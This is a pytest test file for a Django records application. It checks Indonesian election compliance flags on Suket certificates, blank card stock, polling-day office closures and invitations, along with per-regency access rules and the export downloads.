"""Compliance flags: each one raised and not raised on small hand-built cases, who sees which
records, the pages and the downloads, in Indonesian and in English."""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import date, datetime, time

import openpyxl
import pytest
from django.conf import settings
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.http import Http404
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape
from django.utils.translation import pgettext
from pypdf import PdfReader

from rekam.accounts.models import Role, User
from rekam.accounts.services import user_create
from rekam.invitations.invites import invitations_send
from rekam.invitations.models import Invitation, PlanRun
from rekam.lib.nik import mask_nik
from rekam.notifications.models import Message
from rekam.notifications.models import State as MessageState
from rekam.regions.models import Region
from rekam.reporting.exports import table_bytes
from rekam.reporting.figures import dashboard
from rekam.reporting.flags import FLAG_KINDS, flag_records, flag_regions, flags_for
from rekam.reporting.report import report_content, report_render
from rekam.residents.services import record_move, resident_update
from rekam.residents.states import KtpState, MoveSource
from rekam.servicepoints.models import HolidayOpening, ServicePoint
from rekam.servicepoints.services import calendar_day_set
from rekam.suket.models import BlankMovement, Printer, Suket
from rekam.suket.services import suket_issue, suket_revoke, suket_revoke_for_resident
from rekam.suket.stock import blank_receive, blank_spoil, printer_set_status
from rekam.voters.models import VoterClass

from .conftest import PASSWORD
from .factories import make_resident
from .test_antrean_support import JAKARTA, make_point, session_at
from .test_invitations_support import KEDATON, add_point, add_voters
from .test_suket_support import jakarta, make_pilkada, ready_office

HAJIMENA = "18.01.04.2001"  # Lampung Selatan
POLLING_DAY = date(2020, 12, 9)
TODAY = date(2020, 12, 5)
PRR = KtpState.PRINT_READY_RECORD


@pytest.fixture(autouse=True)
def indonesian():
    """Flags read as the office reads them by default; English is asked for where tested."""
    with translation.override("id"):
        yield


@pytest.fixture
def pilkada(personas):
    ready_office(personas.bdl_office, blanks=0)
    ready_office(personas.lamsel_office, blanks=0)
    return make_pilkada()


@pytest.fixture
def lamsel_admin(personas) -> User:
    return user_create(
        username="lamsel_admin",
        password=PASSWORD,
        role=Role.REGENCY_ADMIN,
        office=personas.lamsel_office,
    )


def counts(election, user=None, **kw) -> dict[str, int]:
    return {f.kind: f.count for f in flags_for(election, user, **kw)}


def received(office, blanks: int, at: datetime) -> None:
    """``blanks`` cards received by ``office``, the ledger line dated when they arrived."""
    # A batch per delivery: the same batch is not received twice.
    movement = blank_receive(office=office, count=blanks, batch=f"B-{at:%Y%m%d%H%M}")
    BlankMovement.objects.filter(pk=movement.pk).update(at=at)


def printer_broken(office) -> None:
    printer = Printer.objects.create(office=office, name="Printer KTP-el 1")
    printer_set_status(printer=printer, working=False, problem="Pita printer putus")


def issue(election, *, state=KtpState.SENT_FOR_ENROLLMENT, village=KEDATON, at=None, name="Siti"):
    resident = make_resident(village, ktp_state=state, name=name)
    result = suket_issue(resident=resident, election=election, at=at or jakarta(2020, 12, 5))
    assert result.suket is not None, result.decision
    return result.suket


def column(kind: str, title: str, election, user=None, **kw) -> list:
    header, rows, _links = flag_records(election, user, kind, **kw)
    return [row[header.index(title)] for row in rows]


def suket_page(suket) -> str:
    return (
        reverse("suket_decision", kwargs={"nik": suket.resident.nik})
        + f"?election={suket.election_id}"
    )


# suket_prr_with_blanks (R2)


def test_a_suket_to_a_prr_resident_while_the_office_had_blanks_raises_it(pilkada, personas):
    received(personas.bdl_office, 5, jakarta(2020, 11, 1))
    printer_broken(personas.bdl_office)
    flagged = issue(pilkada, state=PRR)
    issue(pilkada, name="Budi")  # not PRR yet: a Suket is the rule
    clear = issue(pilkada, state=PRR, village=HAJIMENA, name="Citra")  # no blank at all
    assert (flagged.reason, clear.reason) == ("KENDALA_TEKNIS", "BLANKO_HABIS")

    assert counts(pilkada)["suket_prr_with_blanks"] == 1
    header, rows, links = flag_records(pilkada, None, "suket_prr_with_blanks")
    assert [row[0] for row in rows] == [flagged.number]
    assert rows[0][header.index("NIK")] == flagged.resident.nik
    # The state as people read it, not its code.
    assert rows[0][header.index("Status KTP-el saat keputusan")] == "Siap cetak (PRR)"
    assert rows[0][header.index("Blangko saat terbit")] == 5
    assert rows[0][header.index("Alasan")] == "Kendala teknis pencetakan"
    assert links == [suket_page(flagged)]


def test_the_stock_is_read_from_the_ledger_as_it_was_at_issuance(pilkada, personas):
    office = personas.bdl_office
    suket = issue(pilkada, state=PRR)  # no blank then
    assert suket.reason == "BLANKO_HABIS"
    received(office, 5, jakarta(2020, 12, 6))  # arrived the day after
    assert counts(pilkada)["suket_prr_with_blanks"] == 0
    BlankMovement.objects.filter(office=office).update(at=jakarta(2020, 12, 4))
    assert counts(pilkada)["suket_prr_with_blanks"] == 1


def test_blanks_that_ran_out_before_issuance_do_not_raise_it(pilkada, personas):
    office = personas.bdl_office
    received(office, 2, jakarta(2020, 11, 1))
    printer_broken(office)
    spoiled = blank_spoil(office=office, count=2, reason="Blangko rusak terkena air")
    BlankMovement.objects.filter(pk=spoiled.pk).update(at=jakarta(2020, 12, 1))
    issue(pilkada, state=PRR)
    assert counts(pilkada)["suket_prr_with_blanks"] == 0


def test_a_record_prr_by_its_timeline_raises_it(pilkada, personas):
    received(personas.bdl_office, 5, jakarta(2020, 11, 1))
    early = issue(pilkada)
    late = issue(pilkada, name="Budi")
    printed = issue(pilkada, name="Citra")
    assert {early.reason, late.reason, printed.reason} == {"BELUM_PRR"}
    # SIAK's export, read after the Sukets were issued, dates each move when it happened.
    for suket, moves in (
        (early, [(PRR, jakarta(2020, 12, 4))]),
        (late, [(PRR, jakarta(2020, 12, 6))]),
        (printed, [(PRR, jakarta(2020, 12, 3)), (KtpState.CARD_PRINTED, jakarta(2020, 12, 4))]),
    ):
        for state, at in moves:
            record_move(
                resident=suket.resident,
                to_state=state,
                source=MoveSource.CENTRAL,
                at=at,
                actor_label="SIAK",
            )
    header, rows, _links = flag_records(pilkada, None, "suket_prr_with_blanks")
    assert [row[0] for row in rows] == [early.number]
    assert rows[0][header.index("Status KTP-el saat keputusan")] == "Dikirim ke pusat data"
    assert rows[0][header.index("PRR menurut riwayat")] == jakarta(2020, 12, 4)


# suket_late (R8)


def test_issuance_after_the_last_day_is_judged_by_the_date_in_jakarta(pilkada):
    on_time = issue(pilkada, at=datetime(2020, 12, 4, 23, 30, tzinfo=JAKARTA))
    # 00:30 in Jakarta is still 4 December in UTC.
    late = issue(pilkada, at=datetime(2020, 12, 5, 0, 30, tzinfo=JAKARTA), name="Budi")
    assert counts(pilkada)["suket_late"] == 0
    pilkada.suket_issue_until = date(2020, 12, 4)
    pilkada.save()
    assert counts(pilkada)["suket_late"] == 1
    assert column("suket_late", "Nomor Suket", pilkada) == [late.number]
    assert column("suket_late", "Pelanggaran", pilkada) == ["terbit setelah 04-12-2020"]
    assert on_time.number not in column("suket_late", "Nomor Suket", pilkada)


def test_validity_beyond_the_election_s_end_raises_it(pilkada):
    issue(pilkada)
    issue(pilkada, name="Budi")
    assert counts(pilkada)["suket_late"] == 0
    pilkada.suket_valid_until = date(2020, 12, 20)
    pilkada.save()
    assert column("suket_late", "Pelanggaran", pilkada) == ["berlaku melewati 20-12-2020"] * 2


# suket_no_reason


def test_a_suket_without_a_reason_raises_it(pilkada):
    issue(pilkada)
    bare = issue(pilkada, name="Budi")
    assert counts(pilkada)["suket_no_reason"] == 0
    # As a record brought over from another system may come.
    Suket.objects.filter(pk=bare.pk).update(reason="")
    assert counts(pilkada)["suket_no_reason"] == 1
    assert column("suket_no_reason", "Nomor Suket", pilkada) == [bare.number]


# closed_polling_day (R1)


def test_a_region_whose_office_does_not_record_on_polling_day_raises_it(pilkada, personas):
    # The office point follows the holiday rule: polling day is a holiday, so it closes.
    office_point = make_point(personas.bdl_office, code="18.71-DINAS")
    # Points that are not the office's own recording service do not count.
    make_point(
        personas.bdl_office,
        code="18.71-UPT",
        kind=ServicePoint.Kind.UPT,
        holiday_opening=HolidayOpening.OPEN,
    )
    make_point(
        personas.bdl_office,
        code="18.71-LAMA",
        is_active=False,
        holiday_opening=HolidayOpening.OPEN,
    )
    make_point(
        personas.bdl_office,
        code="18.71-CETAK",
        offers_recording=False,
        holiday_opening=HolidayOpening.OPEN,
    )
    # Lampung Selatan has no office point at all. Rows follow the region codes.
    header, rows, links = flag_records(pilkada, None, "closed_polling_day")
    assert rows == [
        [
            Region.objects.get(code="18.01").display_name,
            "",
            "",
            POLLING_DAY,
            "Kantor dinas tidak punya tempat layanan perekaman aktif.",
        ],
        [
            Region.objects.get(code="18.71").display_name,
            office_point.name,
            "18.71-DINAS",
            POLLING_DAY,
            "Libur: Hari Pemilihan Kepala Daerah.",
        ],
    ]
    assert header[1] == "Tempat layanan"
    assert links == [
        reverse("antrean_points") + "?kantor=18.01",
        reverse("antrean_figures", kwargs={"code": "18.71-DINAS"}) + "?tanggal=2020-12-09",
    ]
    calendar_day_set(
        service_point=office_point, day=POLLING_DAY, is_open=True, reason="Buka sesuai R1"
    )
    assert counts(pilkada)["closed_polling_day"] == 1
    assert column("closed_polling_day", "Kode", pilkada) == [""]


def test_one_open_office_point_is_enough(pilkada, personas):
    make_point(personas.bdl_office, code="18.71-DINAS")
    make_point(personas.bdl_office, code="18.71-DINAS-2", holiday_opening=HolidayOpening.OPEN)
    assert column("closed_polling_day", "Kode", pilkada) == [""]  # Lampung Selatan only


# stock_short


def test_a_stock_below_the_prr_backlog_raises_it(pilkada, personas):
    received(personas.bdl_office, 2, jakarta(2020, 11, 1))
    received(personas.lamsel_office, 5, jakarta(2020, 11, 1))
    for n in range(3):
        make_resident(KEDATON, ktp_state=PRR, name=f"Warga {n}")
    make_resident(HAJIMENA, ktp_state=PRR)
    make_resident(KEDATON, ktp_state=KtpState.CARD_PRINTED)  # printed: not waiting
    header, rows, links = flag_records(pilkada, None, "stock_short", today=date(2020, 12, 5))
    assert header[2:5] == ["Blangko", "Antrean PRR", "Kekurangan blangko"]
    assert rows == [
        [
            Region.objects.get(code="18.71").display_name,
            personas.bdl_office.name,
            2,
            3,
            1,
            None,  # nothing printed lately: no rate to measure days by
        ]
    ]
    assert links == [reverse("suket_stock") + "?kantor=18.71"]
    received(personas.bdl_office, 1, jakarta(2020, 11, 2))
    assert counts(pilkada)["stock_short"] == 0


# invitation_after_polling_day


def _invite(run, point, when, *, state=Invitation.State.PLANNED, resident=None):
    n = Invitation.objects.count()
    (voter,) = add_voters(
        run.election, KEDATON, VoterClass.NOT_RECORDED, 1, start=n, resident=resident
    )
    session = session_at(point, when)
    return Invitation.objects.create(
        run=run,
        election=run.election,
        voter=voter,
        village_id=KEDATON,
        service=Invitation.Service.RECORDING,
        service_point=point,
        session=session,
        starts_at=session.starts_at,
        ends_at=session.ends_at,
        km=1.0,
        state=state,
        reference=f"UJI{n:04d}",
    )


def _sent(invitation, at: datetime, personas) -> Message:
    invitations_send(invitations=[invitation], acting_user=personas.bdl_admin, office="Disdukcapil")
    Message.objects.filter(idempotency_key=f"invitation:{invitation.reference}").update(
        state=MessageState.SENT, sent_at=at
    )
    return Message.objects.get(idempotency_key=f"invitation:{invitation.reference}")


def test_invitations_that_come_after_the_polls_close_raise_it(pilkada, personas):
    point = add_point(personas.bdl_office)  # open every day, polling day too
    run = PlanRun.objects.create(election=pilkada, region_code="18.71", status="done")
    dry = PlanRun.objects.create(election=pilkada, region_code="18.71", dry_run=True)

    def at(d: int, hh: int) -> datetime:
        return datetime.combine(date(2020, 12, d), time(hh), tzinfo=JAKARTA)

    after_close = _invite(run, point, at(9, 14))
    _invite(run, point, at(9, 12))
    _invite(run, point, at(9, 13))  # the polls close at 13:00: still in time
    _invite(dry, point, at(10, 9))  # a dry run invites no one
    _invite(run, point, at(10, 9), state=Invitation.State.CANCELLED)
    _invite(run, point, at(10, 10), state=Invitation.State.RESCHEDULED)  # replaced
    told_late = _invite(run, point, at(8, 10), resident=make_resident(KEDATON, name="Budi"))
    told_in_time = _invite(run, point, at(8, 11), resident=make_resident(KEDATON, name="Citra"))
    late_message = _sent(told_late, at(9, 14), personas)
    _sent(told_in_time, at(9, 12), personas)

    header, rows, links = flag_records(pilkada, None, "invitation_after_polling_day")
    assert [row[0] for row in rows] == [told_late.reference, after_close.reference]
    assert [row[header.index("Pesan terkirim")] for row in rows] == [at(9, 14), None]
    assert links == [
        reverse("notifications:message", kwargs={"pk": late_message.pk}),
        reverse("invitations_run", kwargs={"pk": run.pk}),
    ]
    assert counts(pilkada)["invitation_after_polling_day"] == 2


# Every flag, and who sees what


def test_a_clear_election_has_every_flag_at_zero_in_a_fixed_order(pilkada, personas):
    for office, village in ((personas.bdl_office, KEDATON), (personas.lamsel_office, HAJIMENA)):
        make_point(
            office,
            code=f"{office.code}-DINAS",
            village=Region.objects.get(code=village),
            holiday_opening=HolidayOpening.OPEN,
        )
    issue(pilkada)
    flags = flags_for(pilkada, personas.province_admin)
    assert (
        [f.kind for f in flags]
        == list(FLAG_KINDS)
        == [
            "suket_prr_with_blanks",
            "suket_late",
            "suket_no_reason",
            "suket_left_election",
            "closed_polling_day",
            "stock_short",
            "invitation_after_polling_day",
        ]
    )
    assert [f.count for f in flags] == [0] * 7
    assert [f.rule for f in flags] == ["R2", "R8", "R6", "R8", "R1", "R2", "R4"]
    assert all(f.title and f.explanation.endswith(".") for f in flags)


@pytest.fixture
def both_regions(pilkada, personas):
    """In each regency/city: a Suket without a reason, and a short stock; neither office has
    a recording point."""
    for village, name in ((KEDATON, "Siti"), (HAJIMENA, "Citra")):
        suket = issue(pilkada, village=village, name=name)
        Suket.objects.filter(pk=suket.pk).update(reason="")
        make_resident(village, ktp_state=PRR)
    return pilkada


def test_a_regency_sees_only_its_own_records(both_regions, personas, lamsel_admin):
    election = both_regions
    everything = {"suket_no_reason": 2, "closed_polling_day": 2, "stock_short": 2}
    own = {"suket_no_reason": 1, "closed_polling_day": 1, "stock_short": 1}

    def seen(user, **kw):
        return {k: v for k, v in counts(election, user, **kw).items() if v}

    assert seen(None) == everything
    assert seen(personas.province_admin) == everything
    assert seen(personas.province_admin, within="18.01") == own
    assert seen(None, within="18.71") == own
    for user, code in (
        (personas.bdl_admin, "18.71"),
        (personas.bdl_queue, "18.71"),
        (lamsel_admin, "18.01"),
        (personas.lamsel_operator, "18.01"),
    ):
        assert seen(user) == own
        assert seen(user, within=code) == own
        regencies = column("suket_no_reason", "Kabupaten/Kota", election, user)
        assert regencies == [Region.objects.get(code=code).display_name]
        niks = column("suket_no_reason", "NIK", election, user)
        assert Suket.objects.get(resident__nik__in=niks).resident.regency_id == code


def test_a_regency_may_not_look_into_another(both_regions, personas, lamsel_admin):
    with pytest.raises(PermissionDenied, match="di luar wilayah kerja"):
        flags_for(both_regions, personas.bdl_admin, within="18.01")
    with pytest.raises(PermissionDenied, match="di luar wilayah kerja"):
        flag_records(both_regions, lamsel_admin, "suket_no_reason", within="18.71")


def test_suket_flags_stay_with_the_issuing_office_when_the_holder_moves(
    pilkada, personas, lamsel_admin
):
    received(personas.bdl_office, 5, jakarta(2020, 11, 1))
    printer_broken(personas.bdl_office)
    prr = issue(pilkada, state=PRR)  # R2: blanks were there
    bare = issue(pilkada, name="Budi")
    Suket.objects.filter(pk=bare.pk).update(reason="")
    pilkada.suket_issue_until = date(2020, 12, 4)  # both issued on the 5th: R8
    pilkada.save()
    suket_kinds = ("suket_prr_with_blanks", "suket_late", "suket_no_reason")
    bdl_flags = {"suket_prr_with_blanks": 1, "suket_late": 2, "suket_no_reason": 1}
    none = dict.fromkeys(suket_kinds, 0)

    def seen(user, **kw):
        return {k: v for k, v in counts(pilkada, user, **kw).items() if k in suket_kinds}

    # Both holders move to Lampung Selatan; their Sukets' region follows them.
    for suket in (prr, bare):
        resident_update(
            resident=suket.resident,
            acting_user=personas.province_admin,
            village=Region.objects.get(code=HAJIMENA),
        )
    assert set(Suket.objects.values_list("regency_id", flat=True)) == {"18.01"}
    assert seen(personas.bdl_admin) == seen(personas.bdl_admin, within="18.71") == bdl_flags
    assert seen(personas.province_admin, within="18.71") == seen(None, within="18.71") == bdl_flags
    assert seen(personas.province_admin) == seen(None) == bdl_flags
    assert seen(lamsel_admin) == seen(personas.province_admin, within="18.01") == none
    assert (
        column("suket_late", "Kantor penerbit", pilkada, personas.bdl_admin)
        == [personas.bdl_office.name] * 2
    )
    assert column("suket_late", "NIK", pilkada, lamsel_admin) == []
    # Bandar Lampung still acts on them, but the holders now live outside its jurisdiction:
    # their NIKs masked, no link to their pages.
    niks = column("suket_late", "NIK", pilkada, personas.bdl_admin)
    assert sorted(niks) == sorted(mask_nik(s.resident.nik) for s in (prr, bare))
    _header, _rows, links = flag_records(pilkada, personas.bdl_admin, "suket_late")
    assert links == [None, None]
    assert column("suket_late", "NIK", pilkada, personas.province_admin) == [
        s.resident.nik for s in sorted((prr, bare), key=lambda s: (s.issued_at, s.pk))
    ]
    with pytest.raises(PermissionDenied, match="di luar wilayah kerja"):
        flag_records(pilkada, lamsel_admin, "suket_late", within="18.71")
    # The dashboard still counts the Sukets where their holders live.
    rows = dashboard(pilkada, personas.province_admin, today=date(2020, 12, 5)).rows
    assert {r.code: r.sukets_issued for r in rows} == {"18.01": 2, "18.71": 0}


def test_a_revoked_suket_keeps_the_issuance_flags_and_leaves_the_one_asking_to_revoke_it(
    pilkada, personas
):
    late = issue(pilkada)  # on the 5th
    in_time = issue(pilkada, name="Budi", at=jakarta(2020, 12, 4))
    still = issue(pilkada, village=HAJIMENA, name="Citra")
    Suket.objects.update(reason="")
    pilkada.suket_issue_until = date(2020, 12, 4)  # those of the 5th: R8
    pilkada.suket_valid_until = date(2020, 12, 20)  # every one valid too long: R8
    pilkada.save()
    assert counts(pilkada)["suket_late"] == counts(pilkada)["suket_no_reason"] == 3
    for suket in (late, in_time):
        suket_revoke_for_resident(
            resident=suket.resident, reason="Ditarik", acting_user=personas.bdl_supervisor
        )
    for user in (None, personas.province_admin):
        # Revoking undoes neither a late issuance nor a missing reason; a Suket issued in time
        # and valid too long leaves once revoked: nothing is left to act on.
        found = counts(pilkada, user, today=TODAY)
        assert (found["suket_late"], found["suket_no_reason"]) == (2, 3)
        # Each count is its list's length.
        for kind in ("suket_late", "suket_no_reason"):
            assert len(column(kind, "Nomor Suket", pilkada, user, today=TODAY)) == found[kind]
    header, rows, _links = flag_records(pilkada, None, "suket_late", today=TODAY)
    shown = {row[0]: row for row in rows}
    assert set(shown) == {late.number, still.number}
    status, revoked = header.index("Status"), header.index(pgettext("flag column", "Revoked"))
    late.refresh_from_db()
    assert shown[late.number][status] == "dicabut"
    assert shown[late.number][revoked] == late.revoked_at.astimezone(JAKARTA)
    assert shown[late.number][header.index(pgettext("flag column", "Reason for revocation"))] == (
        "Ditarik"
    )
    # Its validity no longer matters: the breach is the issuance alone.
    assert shown[late.number][header.index("Pelanggaran")] == "terbit setelah 04-12-2020"
    assert shown[still.number][status] == "berlaku"
    assert shown[still.number][revoked] is None
    assert shown[still.number][header.index("Pelanggaran")] == (
        "terbit setelah 04-12-2020; berlaku melewati 20-12-2020"
    )
    # The dashboard counts the same Sukets: three issued, two of them revoked.
    total = dashboard(pilkada, personas.province_admin, today=TODAY).total
    assert (total.sukets_issued, total.sukets_revoked) == (3, 2)


def test_a_late_suket_whose_card_is_then_printed_still_counts_as_issued_late(
    pilkada, personas, client
):
    late = issue(pilkada)  # on the 5th
    pilkada.suket_issue_until = date(2020, 12, 4)
    pilkada.save()
    assert counts(pilkada)["suket_late"] == 1
    # SIAK then reports the card printed: as every printed card, it revokes the Suket.
    for state, day in ((PRR, 6), (KtpState.CARD_PRINTED, 7)):
        record_move(
            resident=late.resident,
            to_state=state,
            source=MoveSource.CENTRAL,
            at=jakarta(2020, 12, day),
            actor_label="SIAK",
        )
    late.refresh_from_db()
    assert late.revoked_at is not None
    for user in (None, personas.province_admin, personas.bdl_admin):
        assert counts(pilkada, user)["suket_late"] == 1
        assert column("suket_late", "Nomor Suket", pilkada, user) == [late.number]
    # Its page and download show it revoked, and why.
    client.force_login(personas.province_admin)
    kw = {"slug": pilkada.slug, "kind": "suket_late"}
    page = client.get(reverse("dashboard_flag", kwargs=kw))
    assert page.context["page"].paginator.count == 1
    ((cells, _link),) = page.context["rows"]
    assert cells[page.context["header"].index("Status")] == "dicabut"
    response = client.get(reverse("dashboard_flag_export", kwargs={**kw, "fmt": "csv"}))
    read = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert read[1][read[0].index("Status")] == "dicabut"
    assert read[1][read[0].index(pgettext("flag column", "Reason for revocation"))].startswith(
        "KTP-el sudah dicetak"
    )


def test_sukets_of_a_regency_removed_from_the_election_are_left_out_as_on_the_dashboard(
    pilkada, personas, lamsel_admin
):
    issue(pilkada)
    issue(pilkada, village=HAJIMENA, name="Citra")
    pilkada.suket_issue_until = date(2020, 12, 4)
    pilkada.save()
    assert counts(pilkada, personas.province_admin)["suket_late"] == 2
    pilkada.regions.remove(Region.objects.get(code="18.01"))
    bdl = Region.objects.get(code="18.71")
    assert flag_regions(pilkada, personas.province_admin) == [("18.71", bdl.display_name)]
    for user in (None, personas.province_admin):
        assert counts(pilkada, user)["suket_late"] == 1
        assert column("suket_late", "Kabupaten/Kota", pilkada, user) == [bdl.display_name]
    assert counts(pilkada, lamsel_admin)["suket_late"] == 0
    total = dashboard(pilkada, personas.province_admin, today=date(2020, 12, 5)).total
    assert total.sukets_issued == 1


# suket_left_election (R8)

LEFT = "suket_left_election"
LAMPUNG_UTARA_VILLAGE = "18.03.01.2002"


@pytest.fixture
def lamsel_removed(pilkada, personas):
    """A Suket issued in each regency/city; then an admin removes Lampung Selatan from the
    election. Returns (Bandar Lampung's, Lampung Selatan's)."""
    kept = issue(pilkada, name="Siti")
    left = issue(pilkada, village=HAJIMENA, name="Citra")
    assert counts(pilkada, today=TODAY)[LEFT] == 0
    pilkada.regions.remove(Region.objects.get(code="18.01"))
    return kept, left


def test_a_valid_suket_of_a_regency_removed_from_the_election_raises_it(
    pilkada, personas, lamsel_removed, lamsel_admin
):
    _kept, left = lamsel_removed
    # The province and the issuing office see it; Bandar Lampung's, still electing, does not.
    for user in (None, personas.province_admin, lamsel_admin):
        assert counts(pilkada, user, today=TODAY)[LEFT] == 1
        assert column(LEFT, "Nomor Suket", pilkada, user, today=TODAY) == [left.number]
    # The issuing office's regency/city narrows to it though it holds the election no more.
    for user in (personas.province_admin, lamsel_admin):
        assert column(LEFT, "Nomor Suket", pilkada, user, within="18.01", today=TODAY) == [
            left.number
        ]
    assert column(LEFT, "Nomor Suket", pilkada, personas.province_admin, within="18.71") == []
    header, rows, links = flag_records(pilkada, lamsel_admin, LEFT, today=TODAY)
    assert rows[0][header.index("Status")] == "berlaku"
    assert rows[0][header.index("Kantor penerbit")] == personas.lamsel_office.name
    assert rows[0][header.index("Kabupaten/Kota")] == Region.objects.get(code="18.01").display_name
    # Each row leads to the page where the office revokes the Suket.
    assert links == [suket_page(left)]
    # Back in the election: nothing to act on.
    pilkada.regions.add(Region.objects.get(code="18.01"))
    assert counts(pilkada, today=TODAY)[LEFT] == 0


def test_a_revoked_or_expired_suket_of_a_removed_regency_does_not_raise_it(
    pilkada, lamsel_removed, lamsel_admin
):
    _kept, left = lamsel_removed
    assert left.valid_until == date(2020, 12, 31)
    assert counts(pilkada, today=date(2020, 12, 31))[LEFT] == 1
    assert counts(pilkada, today=date(2021, 1, 1))[LEFT] == 0
    suket_revoke(
        suket=left,
        reason="Lampung Selatan tidak lagi mengikuti pemilihan",
        acting_user=lamsel_admin,
    )
    for user in (None, lamsel_admin):
        assert counts(pilkada, user, today=TODAY)[LEFT] == 0
        assert column(LEFT, "Nomor Suket", pilkada, user, today=TODAY) == []


def test_another_regency_does_not_see_the_sukets_of_a_removed_one(
    pilkada, personas, lamsel_removed
):
    for user in (personas.bdl_admin, personas.bdl_queue):
        assert counts(pilkada, user, today=TODAY)[LEFT] == 0
        assert column(LEFT, "Nomor Suket", pilkada, user, today=TODAY) == []
    with pytest.raises(PermissionDenied, match="di luar wilayah kerja"):
        flag_records(pilkada, personas.bdl_admin, LEFT, within="18.01")


def test_a_holder_who_moved_out_of_the_election_raises_it_for_the_issuing_office(
    pilkada, personas, lamsel_admin
):
    suket = issue(pilkada)
    # The Suket's regency/city follows its holder to Lampung Utara, which holds no election.
    resident_update(
        resident=suket.resident,
        acting_user=personas.province_admin,
        village=Region.objects.get(code=LAMPUNG_UTARA_VILLAGE),
    )
    assert column(LEFT, "Nomor Suket", pilkada, personas.bdl_admin, today=TODAY) == [suket.number]
    assert counts(pilkada, lamsel_admin, today=TODAY)[LEFT] == 0


def test_the_pages_and_the_daily_report_show_the_removed_regency_s_sukets(
    pilkada, personas, lamsel_removed, lamsel_admin, client
):
    _kept, left = lamsel_removed
    # The pages judge validity on the real today: keep the Suket valid until then.
    Suket.objects.filter(pk=left.pk).update(valid_until=timezone.localdate())
    client.force_login(lamsel_admin)
    listed = client.get(reverse("dashboard_flags", kwargs={"slug": pilkada.slug}))
    assert {f.kind: f.count for f in listed.context["flags"]}[LEFT] == 1
    assert f'data-flag="{LEFT}"' in listed.content.decode()
    detail = client.get(reverse("dashboard_flag", kwargs={"slug": pilkada.slug, "kind": LEFT}))
    ((cells, link),) = detail.context["rows"]
    assert cells[0] == left.number and link == suket_page(left)
    # The page behind the link is open to the office that must revoke it.
    assert client.get(link).status_code == 200
    export = reverse(
        "dashboard_flag_export", kwargs={"slug": pilkada.slug, "kind": LEFT, "fmt": "csv"}
    )
    read = list(csv.reader(io.StringIO(client.get(export).content.decode("utf-8-sig"))))
    assert [row[0] for row in read[1:]] == [left.number]
    # The province's daily report counts it like every other flag.
    content = report_content(pilkada, within="", day=TODAY)
    flag = next(f for f in content.flags if f.kind == LEFT)
    assert flag.count == 1
    pdf, _pages = report_render(pilkada, within="", day=TODAY)
    pages = PdfReader(io.BytesIO(pdf)).pages
    assert flag.title in " ".join(" ".join(page.extract_text().split()) for page in pages)


def test_the_flag_list_looks_up_regions_offices_and_names_once(both_regions, personas, client):
    client.force_login(personas.province_admin)
    url = reverse("dashboard_flags", kwargs={"slug": both_regions.slug})
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    repeated = [sql for sql, n in Counter(q["sql"] for q in queries).items() if n > 1]
    assert repeated == []


def test_someone_without_an_office_is_refused_and_an_unknown_flag_is_not_found(pilkada, db):
    nobody = User.objects.create_user(username="tamu", password=PASSWORD)
    with pytest.raises(PermissionDenied, match="tidak berwenang melihat laporan"):
        flags_for(pilkada, nobody)
    with pytest.raises(Http404):
        flag_records(pilkada, None, "suket_forged")


# Pages and downloads


def test_the_list_shows_every_flag_with_its_count(both_regions, personas, client):
    client.force_login(personas.province_admin)
    url = reverse("dashboard_flags", kwargs={"slug": both_regions.slug})
    response = client.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    for flag in response.context["flags"]:
        assert f'data-flag="{flag.kind}"' in html
        assert escape(flag.explanation) in html
        assert (
            reverse("dashboard_flag", kwargs={"slug": both_regions.slug, "kind": flag.kind}) in html
        )
    assert {f.kind: f.count for f in response.context["flags"]}["suket_no_reason"] == 2
    narrowed = client.get(url, {"wilayah": "18.71"})
    assert {f.kind: f.count for f in narrowed.context["flags"]}["suket_no_reason"] == 1
    assert response.context["nav"] == "dashboard"
    assert f'href="{reverse("dashboard")}" aria-current="page"' in html


def test_pages_refuse_outside_the_jurisdiction_and_know_no_other_flag(
    both_regions, personas, client
):
    slug = both_regions.slug
    client.force_login(personas.bdl_admin)
    flags = reverse("dashboard_flags", kwargs={"slug": slug})
    one = reverse("dashboard_flag", kwargs={"slug": slug, "kind": "suket_no_reason"})
    assert client.get(flags).status_code == 200
    assert client.get(flags, {"wilayah": "18.01"}).status_code == 403
    assert client.get(one, {"wilayah": "18.01"}).status_code == 403
    assert client.get(flags, {"wilayah": "lampung"}).status_code == 404
    assert client.get(reverse("dashboard_flags", kwargs={"slug": "pemilu-1955"})).status_code == 404
    unknown = reverse("dashboard_flag", kwargs={"slug": slug, "kind": "suket_forged"})
    assert client.get(unknown).status_code == 404
    pdf = reverse(
        "dashboard_flag_export", kwargs={"slug": slug, "kind": "suket_no_reason", "fmt": "pdf"}
    )
    assert client.get(pdf).status_code == 404
    client.logout()
    assert client.get(flags).status_code == 302  # to the login page


def test_the_detail_page_lists_fifty_records_a_page_with_links(pilkada, personas, client):
    office = personas.bdl_office
    for n in range(51):
        make_point(office, code=f"18.71-DINAS-{n:02d}", name=f"Kantor {n:02d}")
    client.force_login(personas.province_admin)
    url = reverse("dashboard_flag", kwargs={"slug": pilkada.slug, "kind": "closed_polling_day"})
    first = client.get(url, {"wilayah": "18.71"})
    assert first.status_code == 200
    assert first.context["page"].paginator.count == 51
    assert len(first.context["rows"]) == 50
    html = first.content.decode()
    assert html.count(reverse("antrean_figures", kwargs={"code": "18.71-DINAS-00"})) == 1
    assert "?wilayah=18.71&amp;page=2" in html
    second = client.get(url, {"wilayah": "18.71", "page": 2})
    assert [cells[2] for cells, _link in second.context["rows"]] == ["18.71-DINAS-50"]
    assert "09-12-2020" in second.content.decode()


def test_downloads_read_back_as_the_records(both_regions, personas, client):
    client.force_login(personas.province_admin)
    header, rows, _links = flag_records(both_regions, None, "suket_no_reason")
    kw = {"slug": both_regions.slug, "kind": "suket_no_reason"}

    response = client.get(reverse("dashboard_flag_export", kwargs={**kw, "fmt": "csv"}))
    assert response.status_code == 200
    assert "kepatuhan-pilkada-2020-suket_no_reason-provinsi.csv" in response["Content-Disposition"]
    read = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert read[0] == header
    assert [r[0] for r in read[1:]] == [row[0] for row in rows]
    assert [r[header.index("NIK")] for r in read[1:]] == [row[1] for row in rows]
    assert len(read) == 3

    response = client.get(
